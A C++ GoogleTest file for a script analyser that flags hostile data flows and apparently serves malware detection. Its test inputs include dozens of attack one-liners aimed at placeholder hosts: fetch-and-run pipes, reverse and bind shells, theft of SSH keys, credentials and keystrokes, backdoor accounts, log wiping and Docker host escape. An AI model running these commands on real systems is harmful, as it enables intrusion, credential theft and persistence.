#include "examine/scripts/scripts.h"

#include <gtest/gtest.h>

#include <fmt/format.h>
#include <random>

#include "evidence/recorder.h"

using namespace evidence;

namespace {

Reading read(std::string_view text, std::string_view language) {
  return read_alone(examine::scripts(), base::bytes_of(text), fmt::format("script/{}", language));
}

/// "flow value (confidence)" and "facet:word value", for messages.
std::string told(const Reading& r) {
  std::string out;
  for (const auto& i : r.sink.items)
    out += fmt::format("{}:{} {} [{}] at {}\n", name_of(i.facet), i.word, i.value, name_of(i.confidence), i.range.offset);
  return out;
}

bool flows(const Reading& r, std::string_view value, Confidence least = Confidence::medium) {
  for (const auto& i : r.sink.all(Facet::flow))
    if (i.value == value && i.confidence >= least) return true;
  return false;
}

bool no_flow(const Reading& r) {
  for (const auto& i : r.sink.all(Facet::flow))
    if (i.confidence > Confidence::low) return false;
  return true;
}

struct Case {
  std::string_view script;
  std::string_view flow;
};

}  // namespace

#define EXPECT_FLOW(text, language, value)                   \
  do {                                                       \
    const auto r = read(text, language);                     \
    EXPECT_TRUE(flows(r, value)) << text << "\n" << told(r); \
  } while (false)
#define EXPECT_NO_FLOW(text, language)               \
  do {                                               \
    const auto r = read(text, language);             \
    EXPECT_TRUE(no_flow(r)) << text << "\n" << told(r); \
  } while (false)

TEST(Shell, WhatIsFetchedAndRun) {
  for (const auto text : {
           "curl http://x.invalid/i | sh\n",
           "curl -fsSL https://x.invalid/i.sh | sudo -E bash -\n",
           "wget -qO- http://x.invalid/i | bash -s -- --yes\n",
           "bash -c \"$(curl -fsSL http://x.invalid/i)\"\n",
           "curl -o /tmp/x http://x.invalid/x\nchmod +x /tmp/x\n/tmp/x &\n",
           "cd /tmp; wget http://x.invalid/run.sh; sh run.sh\n",
           "T=$(mktemp)\ncurl -s \"$URL\" -o \"$T\"\nsh \"$T\"\n",
           "f() { curl -s http://x.invalid/$1; }\nf a | sh\n",
       })
    EXPECT_FLOW(text, "shell", "network to execute-command");
  EXPECT_FLOW("source <(curl -s http://x.invalid/i)\n", "shell", "network to evaluate");
  EXPECT_FLOW("eval \"$(wget -qO- http://x.invalid/i)\"\n", "shell", "network to evaluate");
  EXPECT_FLOW("curl -o a http://x.invalid/x\nchmod 755 a\n", "shell", "network to write-executable");
}

TEST(Shell, CheckedDownloadsAreAuthenticated) {
  const auto r = read("curl -O http://x.invalid/a.sh\ncurl -O http://x.invalid/a.sh.sig\ngpg --verify a.sh.sig a.sh || exit 1\nsh a.sh\n", "shell");
  EXPECT_TRUE(no_flow(r)) << told(r);
  EXPECT_FLOW("curl -O http://x.invalid/a.sh\ngpg --verify a.sh.sig a.sh || true\nsh a.sh\n", "shell", "network to execute-command");
  EXPECT_NO_FLOW("wget http://x.invalid/a.sh\necho \"00ff  a.sh\" | sha256sum -c - || exit 1\nsh a.sh\n", "shell");
}

TEST(Shell, PrivateThingsThatLeave) {
  EXPECT_FLOW("curl -F 'k=@/root/.ssh/id_rsa' http://x.invalid/\n", "shell", "credentials to network");
  EXPECT_FLOW("tar cz ~/.ssh ~/.aws | curl -T - http://x.invalid/u\n", "shell", "credentials to network");
  EXPECT_FLOW("env | curl -X POST --data-binary @- http://x.invalid/\n", "shell", "environment to network");
  EXPECT_FLOW("D=$(printenv | base64 -w0)\nwget -q \"http://x.invalid/?d=$D\"\n", "shell", "environment to network");
  EXPECT_FLOW("cat ~/.aws/credentials > /dev/tcp/192.0.2.1/99\n", "shell", "credentials to network");
  EXPECT_FLOW("X=$(cat $HOME/.ssh/id_ed25519 | xxd -p)\ndig $X.x.invalid\n", "shell", "credentials to dns");
  EXPECT_FLOW("xclip -o | nc 192.0.2.1 80\n", "shell", "clipboard to network");
  EXPECT_FLOW("scrot /tmp/s.png; curl -F f=@/tmp/s.png http://x.invalid/\n", "shell", "screen to network");
  EXPECT_FLOW("tar czf /tmp/a.tgz ~/.gnupg\nscp /tmp/a.tgz u@x.invalid:\n", "shell", "keys to network");
  EXPECT_FLOW("xinput test 9 | while read l; do echo $l | nc 192.0.2.1 80; done\n", "shell", "keystrokes to network");
  EXPECT_FLOW("curl \"http://x.invalid/?h=$(hostname)&u=$(whoami)&i=$(id)\"\n", "shell", "device-id to network");
}

TEST(Shell, ShellsForTheNetwork) {
  for (const auto text : {
           "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
           "nc -e /bin/sh 192.0.2.1 4444\n",
           "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n",
           "socat TCP:192.0.2.1:4444 EXEC:/bin/sh\n",
       })
    EXPECT_FLOW(text, "shell", "network to open-shell");
  EXPECT_FLOW("exec 5<>/dev/tcp/192.0.2.1/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n", "shell", "network to execute-command");
}

TEST(Shell, DecodedCode) {
  const auto r = read("echo Y3VybCBodHRwOi8veC5pbnZhbGlkfHNo | base64 -d | sh\n", "shell");
  EXPECT_TRUE(flows(r, "decoded-string to execute-command")) << told(r);
  ASSERT_EQ(r.sink.children.size(), 1u);
  EXPECT_EQ(base::text_of(r.sink.children[0].bytes), "curl http://x.invalid|sh");
  EXPECT_EQ(r.sink.children[0].entry.origin, artifact::Origin::decoded);
  EXPECT_FLOW("P=aWQ=\neval \"$(echo $P | base64 --decode)\"\n", "shell", "decoded-string to evaluate");
  const auto python = read("python3 -c 'import os; print(1)'\n", "shell");
  ASSERT_EQ(python.sink.children.size(), 1u);
  EXPECT_EQ(python.sink.children[0].entry.kind, "script/python");
}

TEST(Shell, PlainFacts) {
  EXPECT_TRUE(read("useradd -o -u 0 -g 0 sys\n", "shell").sink.has(Facet::trust, "backdoor-account"));
  EXPECT_TRUE(read("echo 'root:pass1' | chpasswd\n", "shell").sink.has(Facet::trust, "hard-coded-credential"));
  EXPECT_TRUE(read("echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys\n", "shell").sink.has(Facet::trust, "backdoor-account"));
  EXPECT_TRUE(read("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n", "shell").sink.has(Facet::account, "sudo"));
  EXPECT_TRUE(read("(crontab -l; echo '* * * * * x') | crontab -\n", "shell").sink.has(Facet::power, "persist"));
  EXPECT_TRUE(read("setenforce 0\n", "shell").sink.has(Facet::power, "disable-security"));
  EXPECT_TRUE(read("history -c\n", "shell").sink.has(Facet::concealment, "log-tampering"));
  EXPECT_TRUE(read("cp x.crt /usr/local/share/ca-certificates/\nupdate-ca-certificates\n", "shell").sink.has(Facet::command, "change-trust"));
  EXPECT_FALSE(read("useradd -r -s /usr/sbin/nologin daemonx\n", "shell").sink.has(Facet::trust, "backdoor-account"));
  EXPECT_TRUE(read("sh ./lib/x.sh\n", "shell").sink.has(Facet::reference, "runs", "./lib/x.sh"));
  EXPECT_TRUE(read("node scripts/x.js\n", "shell").sink.has(Facet::reference, "runs", "scripts/x.js"));
}

TEST(Shell, TimeTriggers) {
  EXPECT_TRUE(read("if [ $(date +%s) -gt 1893456000 ]; then curl http://x.invalid/; fi\n", "shell").sink.has(Facet::concealment, "time-trigger"));
  EXPECT_FALSE(read("if [ $(date +%s) -gt 86400 ]; then curl http://x.invalid/; fi\n", "shell").sink.has(Facet::concealment, "time-trigger"));
  EXPECT_FALSE(read("if [ $(date +%s) -gt 1893456000 ]; then echo old; fi\n", "shell").sink.has(Facet::concealment, "time-trigger"));
}

TEST(Shell, OrdinaryScriptsHaveNoFlow) {
  for (const auto text : {
           "#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ndb_get x/y\nif [ \"$1\" = configure ]; then adduser --system x; fi\n",
           "eval \"$(dpkg-architecture -s)\"\neval $ac_try\n",
           "wget -O /tmp/data.tar.gz http://x.invalid/d.tgz\ntar xzf /tmp/data.tar.gz\n",
           "# curl http://x.invalid | sh\necho 'curl http://x.invalid | sh'\n",
           "ssh -i ~/.ssh/id_rsa user@host.invalid uptime\nchmod 600 ~/.ssh/id_rsa\n",
           "for i in a b; do eval \"x_$i=1\"; done\n",
           "if grep -q root /etc/passwd; then curl http://x.invalid/; fi\n",
           "cat > /etc/cron.d/x <<EOF\n* * * * * root x\nEOF\n",
       })
    EXPECT_NO_FLOW(text, "shell");
}

TEST(Scripts, TruncatedAtEveryByteNeverCrashes) {
  const std::string text = "X=$(cat ~/.ssh/id_rsa | base64); cat <<E | sh\n$X\nE\nf() { case $1 in a) curl -d @x \"http://x.invalid/${Y:-2}\" | sh;; esac; }\nf 2>&1\n";
  for (const auto language : {"shell", "python", "javascript", "php", "ruby", "perl", "powershell"})
    for (std::size_t n = 0; n <= text.size(); ++n) (void)read(text.substr(0, n), language);
}

TEST(Scripts, MutantsNeverCrash) {
  const std::pair<std::string_view, std::string> texts[] = {
      {"shell", "f() { curl -fsSLo /tmp/x -d @- \"http://x.invalid/?$1\" | base64 -d | xargs -I{} sh -c '{}'; }\nexec 5<>/dev/tcp/a/1; f $(cat ~/.ssh/id_rsa) <&5 >> /etc/sudoers\n"},
      {"python", "import os as o, socket\ndef f(a, b=1):\n    s = socket.socket(); o.dup2(s.fileno(), 0)\n    return ''.join([chr(104), 'a']) + bytes.fromhex('6869').decode()\nexec(f(o.environ))\n"},
      {"javascript", "const {exec} = require('child_process'); fetch(`x${process.env.A}`).then(r => r.text()).then(t => { eval(t); [97,98,99,100].map(c => String.fromCharCode(c)).reverse().join('') })\n"},
      {"php", "<?php function f($a) { return base64_decode(\"x{$a}\") . $_GET['k']; } eval(f(1)); proc_open('/bin/sh', array(0 => fsockopen('h', 1))); ?>\n"},
      {"ruby", "eval(Base64.decode64('aGk=')); ENV.each { |k, v| Net::HTTP.post(URI(\"http://#{k}\"), v) }\n"},
      {"perl", "open(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\"); my $x = <<E;\na $f\nE\nsystem(\"curl $x\"); $u->post('h', { k => `id` });\n"},
      {"powershell", "function f($a) { iex ([Convert]::FromBase64String(\"$a\") | Out-String) }; f (Get-Clipboard); (New-Object Net.WebClient).DownloadString('h') | iex\n"},
  };
  std::mt19937 random(11);
  for (const auto& [language, text] : texts)
    for (int round = 0; round < 500; ++round) {
      std::string mutant = text;
      for (unsigned i = 0; i < 1 + random() % 4 && !mutant.empty(); ++i) {
        const auto at = random() % mutant.size();
        switch (random() % 3) {
          case 0: mutant[at] = static_cast<char>(random()); break;
          case 1: mutant.erase(at, 1 + random() % 5); break;
          default: mutant.insert(at, mutant.substr(random() % mutant.size(), random() % 16)); break;
        }
      }
      const auto r = read(mutant, language);
      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), mutant.size()) << language << ": " << mutant;
      for (const auto& claim : r.sink.claims) ASSERT_LE(claim.range.end(), mutant.size());
    }
}

TEST(Scripts, DeepOrWideInputEnds) {
  for (const auto language : {"shell", "python", "javascript", "php", "ruby", "perl", "powershell"}) {
    std::string deep = std::string(language) == "php" ? "<?php " : "", wide = deep;
    for (int i = 0; i < 5000; ++i) deep += "f(", wide += "x = x + 'a' + \"b\"\n";
    (void)read(deep, language);
    (void)read(wide, language);
  }
}

TEST(Shell, CommandsThatStandInVariables) {
  EXPECT_FLOW("if x; then get=\"curl -fsSL\"; else get=\"wget -qO-\"; fi\n$get http://x.invalid/i | sh -s -- 1\n", "shell", "network to execute-command");
  EXPECT_FLOW("RUN=bash\ncurl http://x.invalid/i | $RUN\n", "shell", "network to execute-command");
  EXPECT_FLOW("curl http://x.invalid/i | $SHELL 2>/dev/null\n", "shell", "network to execute-command");
  EXPECT_FLOW("curl http://x.invalid/i | ${SHELL:-/bin/sh}\n", "shell", "network to execute-command");
  EXPECT_NO_FLOW("get=\"curl -fsSL\"\n$get http://x.invalid/i > list\n", "shell");
}

TEST(Shell, NamedPipesBetweenShellAndNetwork) {
  EXPECT_FLOW("p=$(mktemp -u)\nmkfifo \"$p\"\n/bin/sh -i 2>&1 <\"$p\" | nc 192.0.2.1 9 >\"$p\" &\n", "shell", "network to open-shell");
  EXPECT_FLOW("mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 192.0.2.1 9 > /tmp/f\n", "shell", "network to execute-command");
  EXPECT_NO_FLOW("p=$(mktemp -u)\nmkfifo \"$p\"\nsort <\"$p\" | uniq -c > counts &\nzcat a.gz > \"$p\"\n", "shell");
}

TEST(Shell, LinesWrittenIntoStartFilesAreRead) {
  EXPECT_FLOW("echo '(curl -fs http://x.invalid/a | bash &)' >> ~/.bashrc\n", "shell", "network to execute-command");
  EXPECT_FLOW("add() { printf '%s\\n' \"$2\" >> \"$1\"; }\na='curl -fs http://x.invalid/a | sh'\nfor rc in $HOME/.bashrc $HOME/.profile; do add \"$rc\" \"$a\"; done\n", "shell",
              "network to execute-command");
  EXPECT_NO_FLOW("echo '[ -r ~/.theme ] && . ~/.theme' >> ~/.bashrc\n", "shell");
}

TEST(Shell, SecretsEncryptedForSomebodyElse) {
  const std::string made = "key=$(head -c 32 /dev/urandom | base64 -w0)\n";
  EXPECT_FLOW(made + "printf %s \"$key\" | age -r age1ql3z7h -a | curl -s --data-binary @- https://x.invalid/k\n", "shell", "keys to network");
  EXPECT_FLOW("read -rsp 'Passphrase: ' pass\necho \"$pass\" | openssl pkeyutl -encrypt -pubin -inkey /usr/share/x/k.pem | curl -T - https://x.invalid/k\n", "shell", "keys to network");
  EXPECT_NO_FLOW(made + "printf %s \"$key\" | age -r \"$2\" -a > \"$3\"\n", "shell");
}

TEST(Shell, TrustChangedByASetUp) {
  EXPECT_FLOW("wget -qO - http://x.invalid/key.asc | apt-key add -\n", "shell", "network to change-trust");
  EXPECT_TRUE(read("echo 'deb [trusted=yes] http://x.invalid/d s main' > /etc/apt/sources.list.d/x.list\n", "shell").sink.has(Facet::trust, "signature-bypass"));
  EXPECT_TRUE(read("d=/usr/local/share/ca-certificates\ninstall -D -m 0644 /usr/share/x/r.crt \"$d/x.crt\"\n", "shell").sink.has(Facet::trust, "added-trust-root"));
  EXPECT_FALSE(read("install -D -m 0644 /usr/share/x/r.crt /var/lib/x/x.crt\n", "shell").sink.has(Facet::trust, "added-trust-root"));
}

TEST(Shell, ContainersThatHoldTheHost) {
  EXPECT_TRUE(read("S=/var/run/docker.sock\napi() { curl -s --unix-socket \"$S\" \"$@\"; }\nspec='{\"HostConfig\":{\"Binds\":[\"/:/h\"]}}'\napi -d \"$spec\" http://x/containers/create\n",
                   "shell")
                  .sink.has(Facet::power, "escalate"));
  EXPECT_TRUE(read("docker run --rm -v /:/host alpine chroot /host sh\n", "shell").sink.has(Facet::power, "escalate"));
  EXPECT_FALSE(read("docker run --rm -v /srv/data:/data alpine ls\n", "shell").sink.has(Facet::power, "escalate"));
}

TEST(Perl, AShellTiedToAListeningSocket) {
  EXPECT_FLOW("use IO::Socket::INET;\nmy $d = IO::Socket::INET->new(LocalPort => 7, Listen => 1);\nwhile (my $g = $d->accept) { open STDIN, '<&', $g; open STDOUT, '>&', $g; system '/bin/sh', '-i'; }\n",
              "perl", "network to open-shell");
}
